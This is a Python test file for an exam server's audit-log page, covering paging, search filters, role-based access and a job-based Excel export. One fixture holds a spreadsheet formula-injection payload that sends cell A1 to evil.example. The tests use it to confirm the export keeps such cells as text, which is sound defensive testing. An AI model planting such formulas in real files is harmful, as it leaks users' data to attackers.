"""The audit-log page: newest first, a page at a time, searchable by actor, action, entity, entity id, time range and
free text; the Excel export runs as a job and keeps formula-like cells as text; only admin and centre staff."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

import pytest
from conftest import Sitting, csrf_token_from
from flask import Flask
from flask.testing import FlaskClient
from jobs_support import add_staff, fresh_job, staff_client
from openpyxl import load_workbook

from exam_server.extensions import db
from exam_server.jobs import files
from exam_server.jobs.models import DONE
from exam_server.ops import queries
from exam_server.ops.export import HEADERS, SHEET
from item_bank.audit import AuditEvent

BEIJING = dt.timezone(dt.timedelta(hours=8))
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _row(at: dt.datetime, actor: str, action: str, entity: str, entity_id: str, reason: str = "",
         after: dict | None = None) -> None:
    db.session.add(AuditEvent(at=at, actor=actor, action=action, entity=entity, entity_id=entity_id, reason=reason,
                              after=after))


@pytest.fixture
def log(app: Flask) -> None:
    """Audit rows on 1-3 December 2026 (Beijing time), and 55 job submissions on 4 December for paging."""
    _row(dt.datetime(2026, 12, 1, 9, 0, tzinfo=BEIJING), "user:wang", "item.approve", "item", "BAY-0001",
         after={"stem": "保安员发现火情应当如何处置"})
    _row(dt.datetime(2026, 12, 2, 9, 0, tzinfo=BEIJING), "user:li", "attempt.reopen", "attempt", "17",
         reason="考生断电，重新开启作答")
    _row(dt.datetime(2026, 12, 3, 9, 0, tzinfo=BEIJING), "cli:import-items", "item.import", "item", "BAY-0002",
         reason=FORMULA)
    for i in range(55):
        _row(dt.datetime(2026, 12, 4, 8, 0, tzinfo=BEIJING) + dt.timedelta(minutes=i), "user:zhao", "job.submit",
             "job", str(100 + i))
    db.session.commit()
    for name, role in (("admin1", "admin"), ("centre1", "centre_staff"), ("proctor1", "proctor"),
                       ("author1", "author"), ("manager1", "bank_manager"), ("grader1", "grader")):
        add_staff(name, role)


def _ids(client: FlaskClient, **args: str) -> list[str]:
    response = client.get("/audit", query_string=args)
    assert response.status_code == 200, response.get_data(as_text=True)
    html = response.get_data(as_text=True)
    return re.findall(r'<td class="num">(\d+)</td>', html)


def _entity_ids(client: FlaskClient, **args: str) -> list[str]:
    html = client.get("/audit", query_string=args).get_data(as_text=True)
    return re.findall(r"<td>((?:BAY-\d+)|\d+)</td>\s*<td>", html)


@pytest.mark.usefixtures("log")
def test_newest_first_a_page_at_a_time(app: Flask) -> None:
    client = staff_client(app, "centre1")
    first = _ids(client)
    assert len(first) == 50 and int(first[0]) > int(first[-1])
    second = _ids(client, page="2")
    assert len(second) == 8 and int(second[0]) < int(first[-1])
    page = client.get("/audit").get_data(as_text=True)
    assert "共 58 条" in page and "第 1 / 2 页" in page


@pytest.mark.usefixtures("log")
def test_search_filters(app: Flask) -> None:
    client = staff_client(app, "admin1")
    assert len(_ids(client, actor="WANG")) == 1  # part of the name, any case
    assert len(_ids(client, action="item.")) == 2
    assert len(_ids(client, entity="attempt")) == 1
    assert len(_ids(client, entity="job", entity_id="123")) == 1
    assert len(_ids(client, entity_id="12")) == 0  # an entity id matches whole
    assert len(_ids(client, since="2026-12-02", until="2026-12-03")) == 2  # dates in Beijing time, both ends kept
    assert len(_ids(client, since="2026-12-02T09:00", until="2026-12-02T09:00")) == 1
    assert len(_ids(client, since="2026-12-04T08:50")) == 5
    assert len(_ids(client, q="断电")) == 1  # the reason
    assert len(_ids(client, q="火情")) == 1  # inside the JSON of `after`
    assert len(_ids(client, q="HYPERLINK")) == 1
    assert len(_ids(client, q="100%")) == 0  # % is a character, not a wildcard
    assert len(_ids(client, q="nothing like this")) == 0
    assert len(_ids(client, actor="user:", entity="item")) == 1  # filters combine


@pytest.mark.usefixtures("log")
def test_a_bad_date_is_refused_in_chinese(app: Flask) -> None:
    response = staff_client(app, "admin1").get("/audit", query_string={"since": "12/01/2026"})
    assert response.status_code == 400
    assert "时间“12/01/2026”格式不正确" in response.get_data(as_text=True)


@pytest.mark.usefixtures("log")
def test_other_roles_are_refused(app: Flask) -> None:
    for name in ("proctor1", "author1", "manager1", "grader1"):
        client = staff_client(app, name)
        assert client.get("/audit").status_code == 403, name
        token = csrf_token_from(client.get("/jobs/").get_data(as_text=True))
        assert client.post("/audit/export", data={"csrf_token": token}).status_code == 403, name
    assert app.test_client().get("/audit").status_code == 302  # to the login page
    assert staff_client(app, "centre1").get("/audit").status_code == 200
    assert "审计日志" in staff_client(app, "centre1").get("/jobs/").get_data(as_text=True)  # in the navigation
    assert "审计日志" not in staff_client(app, "proctor1").get("/jobs/").get_data(as_text=True)


def test_a_candidate_is_refused(app: Flask, sitting: Sitting) -> None:
    client = app.test_client()
    sitting.login(client)
    assert client.get("/audit").status_code == 403


@pytest.mark.usefixtures("log")
def test_excel_export_as_a_job(app: Flask, tmp_path: Path) -> None:
    client = staff_client(app, "centre1")
    token = csrf_token_from(client.get("/audit").get_data(as_text=True))
    response = client.post("/audit/export", data={"csrf_token": token, "action": "item."})
    assert response.status_code == 302 and re.search(r"/jobs/\d+$", response.headers["Location"])
    job = fresh_job(int(response.headers["Location"].rsplit("/", 1)[1]))
    assert job.kind == "audit.export" and job.status == DONE, job.error
    assert job.result == {"rows": 2, "truncated": False}
    path = files.result_path(files.jobs_dir(app.config, app.instance_path), job.id, job.result_file)
    assert path is not None and path.name == "审计日志.xlsx"

    workbook = load_workbook(path)
    sheet = workbook[SHEET]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == HEADERS
    assert [r[3] for r in rows[1:]] == ["item.import", "item.approve"]  # newest first
    assert rows[1][1] == "2026-12-03 09:00:00"  # Beijing time
    assert '"stem": "保安员发现火情应当如何处置"' in rows[2][8]
    formula_cell = sheet.cell(row=2, column=7)
    assert formula_cell.value == FORMULA and formula_cell.data_type == "s"  # text, never a formula
    assert client.get(f"/jobs/{job.id}/file").status_code == 200


@pytest.mark.usefixtures("log")
def test_the_export_job_is_not_someone_elses(app: Flask) -> None:
    admin = staff_client(app, "admin1")
    token = csrf_token_from(admin.get("/audit").get_data(as_text=True))
    job_url = admin.post("/audit/export", data={"csrf_token": token}).headers["Location"]
    assert staff_client(app, "centre1").get(job_url).status_code == 200  # centre staff read audit exports
    assert staff_client(app, "manager1").get(job_url).status_code == 404


@pytest.mark.usefixtures("log")
def test_the_export_reads_every_row_once_across_batches(app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    """Batches follow on from the last row read (time, then id), so rows with the same time are neither repeated
    nor skipped where a batch ends among them."""
    same = dt.datetime(2026, 12, 5, 9, 0, tzinfo=BEIJING)
    with app.app_context():
        for i in range(7):
            _row(same, "user:zhao", "job.submit", "job", str(900 + i))
        db.session.commit()
        monkeypatch.setattr(queries, "EXPORT_BATCH", 4)
        query = queries.AuditQuery()
        expected = [row.id for row in db.session.scalars(queries.filtered(query))]
        assert len(expected) == 65
        assert [row.id for row in queries.audit_rows(db.session, query, 1000)] == expected
        assert [row.id for row in queries.audit_rows(db.session, query, 9)] == expected[:9]
        assert [row.id for row in queries.audit_rows(db.session, query, 8)] == expected[:8]
